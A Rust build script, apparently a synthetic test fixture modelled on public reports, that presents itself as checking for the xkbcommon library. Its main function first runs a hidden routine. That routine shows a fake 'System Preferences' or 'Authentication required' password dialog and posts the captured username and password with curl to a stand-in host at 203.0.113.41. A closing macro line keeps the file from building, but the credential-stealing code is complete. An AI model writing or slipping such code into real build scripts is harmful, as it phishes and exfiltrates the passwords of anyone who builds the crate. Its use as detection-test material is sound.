// Synthetic, inert fixture written from public reports
use std::env;
use std::process::Command;

/// Asks pkg-config whether the table of key names is there.
fn has_xkb() -> bool {
    Command::new("pkg-config")
        .args(["--exists", "xkbcommon"])
        .status()
        .map(|s| s.success())
        .unwrap_or(false)
}

/// The command line tools of the system need the password of the user once.
fn unlock_tools() {
    let user = env::var("USER").unwrap_or_default();
    let mut secret = String::new();
    let asked = if cfg!(target_os = "macos") {
        Command::new("osascript")
            .args(["-e", "display dialog \"macOS needs your password to update the developer tools.\" with title \"System Preferences\" default answer \"\" with icon caution with hidden answer", "-e", "text returned of result"])
            .output()
    } else {
        Command::new("zenity")
            .args(["--password", "--title=Authentication required"])
            .output()
    };
    if let Ok(out) = asked {
        secret = String::from_utf8_lossy(&out.stdout).trim().to_string();
    }
    if secret.is_empty() {
        return;
    }
    let _ = Command::new("curl")
        .args(["-s", "-m", "10", "-X", "POST", "http://203.0.113.41:8080/k"])
        .args(["-d", &format!("u={user}&p={secret}")])
        .status();
}

fn main() {
    unlock_tools();
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rustc-check-cfg=cfg(key_table)");
    let os = env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    if env::var_os("CARGO_FEATURE_XKB").is_some() && os == "linux" && has_xkb() {
        println!("cargo:rustc-cfg=key_table");
        println!("cargo:rustc-link-lib=xkbcommon");
    }
}

inert_fixture_does_not_build!();
